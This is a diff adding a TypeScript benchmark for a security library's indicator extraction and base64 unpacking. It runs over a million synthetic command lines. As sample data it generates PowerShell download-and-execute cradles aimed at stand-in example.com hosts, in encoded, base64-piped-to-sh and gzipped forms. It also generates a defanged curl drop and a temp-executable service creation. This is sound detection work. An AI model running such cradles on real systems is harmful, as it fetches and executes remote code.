@@ -1,0 +1,97 @@
+/**
+ * Indicator extraction and base64 unpacking over 1M command lines shaped like
+ * the lab's processes_on_host: real command lines drawn (seeded) from it, with
+ * indicators injected into ~3% of rows (IPs, domains, URLs, e-mail addresses,
+ * hashes, some defanged) and base64 payloads into ~0.5% (plain text, PowerShell
+ * UTF-16LE `-enc`, gzip). Figures: rows/s and MB/s of CommandLine text, median
+ * of runs.
+ * Targets (2-core machine; ≈20× MSTICPy on the same rows): extraction
+ * ≥ 200k rows/s, unpacking ≥ 1.5M rows/s scanned.
+ */
+import path from "node:path";
+import v8 from "node:v8";
+import vm from "node:vm";
+import { gzipSync } from "fflate";
+import pl from "nodejs-polars";
+import { readDataFile } from "../src/data/readers";
+import { IoCExtract, BUILTIN_IOC_TYPES } from "../src/transform/iocExtract";
+import { base64 } from "../src/transform/base64Unpack";
+import { measure, report, seededRandom } from "./harness";
+
+const ROWS = Number(process.env.BENCH_ROWS ?? 1_000_000);
+
+const INDICATORS = [
+  (r: () => number) => `ping ${10 + Math.floor(r() * 200)}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)} -n 4`,
+  (r: () => number) => `nslookup host${Math.floor(r() * 1000)}.contoso-${Math.floor(r() * 50)}.com`,
+  (r: () => number) => `powershell -c "iwr http://update${Math.floor(r() * 100)}.example.org/a/b.ps1?id=${Math.floor(r() * 1e6)}"`,
+  (r: () => number) => `cmd /c echo user${Math.floor(r() * 100)}@mail.example.net >> C:\\Temp\\x.txt`,
+  (r: () => number) => `certutil -hashfile C:\\Users\\Public\\a.exe SHA256 ${hex(r, 64)}`,
+  (r: () => number) => `sc.exe create svc binPath= C:\\Windows\\Temp\\${hex(r, 8)}.exe md5=${hex(r, 32)}`,
+  (r: () => number) => `curl hxxps://bad${Math.floor(r() * 100)}[.]xyz/drop`,
+  (r: () => number) => `netsh interface portproxy add v4tov4 listenport=8080 connectaddress=fe80::${hex(r, 4)}:1`,
+];
+
+function hex(r: () => number, n: number): string {
+  let s = "";
+  for (let i = 0; i < n; i++) s += "0123456789abcdef"[Math.floor(r() * 16)];
+  return s;
+}
+
+function payload(r: () => number): string {
+  const cmd = `IEX (New-Object Net.WebClient).DownloadString('http://stage${Math.floor(r() * 100)}.example.com/p${Math.floor(r() * 1000)}')`;
+  const kind = r();
+  if (kind < 0.4) return `powershell.exe -NoP -enc ${Buffer.from(cmd, "utf16le").toString("base64")}`;
+  if (kind < 0.8) return `cmd /c echo ${Buffer.from(cmd).toString("base64")} | base64 -d | sh`;
+  return `powershell -c "$d=[Convert]::FromBase64String('${Buffer.from(gzipSync(Buffer.from(cmd))).toString("base64")}')"`;
+}
+
+function generate(rows: number): pl.DataFrame {
+  const source = readDataFile(path.join(__dirname, "..", "data", "processes_on_host.parquet"));
+  const real = (source.getColumn("CommandLine").toArray() as unknown as (string | null)[]).filter((c): c is string => c !== null);
+  const r = seededRandom(7);
+  const lines = new Array<string>(rows);
+  for (let i = 0; i < rows; i++) {
+    const x = r();
+    if (x < 0.005) lines[i] = payload(r);
+    else if (x < 0.035) lines[i] = INDICATORS[Math.floor(r() * INDICATORS.length)](r);
+    else lines[i] = real[Math.floor(r() * real.length)];
+  }
+  return pl.DataFrame({ CommandLine: lines });
+}
+
+/** A full garbage collection, so that the generator's garbage is not collected inside a measurement. */
+function collectGarbage(): void {
+  v8.setFlagsFromString("--expose-gc");
+  (vm.runInNewContext("gc") as () => void)();
+}
+
+export async function run(): Promise<void> {
+  const t0 = performance.now();
+  const df = generate(ROWS);
+  collectGarbage();
+  const mb = (df.getColumn("CommandLine").str.lengths().sum() as number) / 1e6;
+  console.log(`generated ${ROWS} command lines (${mb.toFixed(0)} MB) in ${((performance.now() - t0) / 1000).toFixed(1)} s`);
+  const iocs = new IoCExtract();
+  const rows = [];
+  let found = 0;
+  const rate = (ms: number) => `${((ROWS / ms) * 1000 / 1e3).toFixed(0)}k rows/s, ${((mb / ms) * 1000).toFixed(0)} MB/s`;
+  let decoded = 0;
+  const unpack = await measure(`base64.unpackDf (${ROWS} rows)`, () => {
+    decoded = base64.unpackDf(df, { column: "CommandLine" }).height;
+  }, { runs: 5, targetMs: (ROWS / 1_500_000) * 1000 });
+  unpack.note = `${rate(unpack.medianMs)}; ${decoded} items decoded`;
+  rows.push(unpack);
+  collectGarbage();
+  const extractDefault = await measure(`extract, default types (${ROWS} rows)`, () => {
+    found = iocs.extract(df, { columns: ["CommandLine"] }).height;
+  }, { runs: 3, targetMs: (ROWS / 200_000) * 1000 });
+  extractDefault.note = `${rate(extractDefault.medianMs)}; ${found} observables`;
+  rows.push(extractDefault);
+  collectGarbage();
+  const extractAll = await measure(`extract, all 10 types (${ROWS} rows)`, () => {
+    found = iocs.extract(df, { columns: ["CommandLine"], iocTypes: BUILTIN_IOC_TYPES }).height;
+  }, { runs: 3, targetMs: (ROWS / 200_000) * 1000 });
+  extractAll.note = `${rate(extractAll.medianMs)}; ${found} observables`;
+  rows.push(extractAll);
+  report(`Indicators: IoC extraction and base64 over ${ROWS.toLocaleString("en")} command lines`, rows);
+}
